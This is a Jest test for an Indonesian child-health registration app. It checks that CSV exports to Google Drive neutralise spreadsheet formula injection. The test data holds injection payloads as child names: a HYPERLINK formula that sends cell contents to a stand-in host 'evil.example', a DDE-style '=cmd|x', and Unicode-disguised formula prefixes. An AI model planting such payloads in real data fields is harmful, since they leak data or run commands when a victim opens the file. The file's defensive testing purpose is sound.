import { driveFiles } from '../../../local/google/drive/drive-app';
import { lenientCells } from '../../support/lenient-csv';
import { HOUR, Kelurahan } from '../../support/system/kelurahan';

const CHILD = {
  posyandu: 'Mawar',
  anak: 'baru',
  jenis_kelamin: 'L',
  tanggal_lahir: '2025-01-07',
  nama_ibu: 'Wagiyem',
  rt: '2',
  rw: '1',
  persetujuan: 'ya',
  tanggal_ukur: '2026-01-07',
  berat: '7,2',
  tinggi: '75,5',
  cara_ukur: 'telentang',
};

/** Names that are formulas, at once or behind something that a program takes for the end of a cell or passes over. */
const NAMES = [
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  'Budi;=HYPERLINK("http://evil.example/?"&A1)',
  'Ani,=cmd|x',
  'Umi;"=1+1',
  ' \u200b@SUM(A1)',
  'Siti\u2028＝1＋1',
  '－1＋2',
  'Tono;\u00a0＠SUM(A1)',
];

const COMPUTES = /^[\s\u200b"]*[=+\-@＝＋－＠](?![\d.]+$)/;

test('I register formulas as names, somebody opens the list by comma, semicolon or tab, and nothing is computed', () => {
  const kelurahan = new Kelurahan({
    Posyandu: [{ Posyandu: 'Mawar' }, { Posyandu: 'Melati;=1+1' }],
  });
  NAMES.forEach((nama, i) => {
    const posyandu = i % 2 === 0 ? 'Mawar' : 'Melati;=1+1';
    kelurahan.send({ ...CHILD, posyandu, nama, nama_ibu: `Ibu ${i}`, tanggal_lahir: `2025-0${i + 1}-07` });
  });
  kelurahan.pass(2 * HOUR);
  const files = driveFiles(kelurahan.world).filter(({ name }) => name.endsWith('.csv'));
  expect(files.length).toBeGreaterThan(0);
  for (const { content } of files) {
    expect(content).toContain('HYPERLINK');
    for (const separator of [',', ';', '\t'])
      expect(lenientCells(String(content), separator).filter((cell) => COMPUTES.test(cell))).toEqual([]);
  }
});
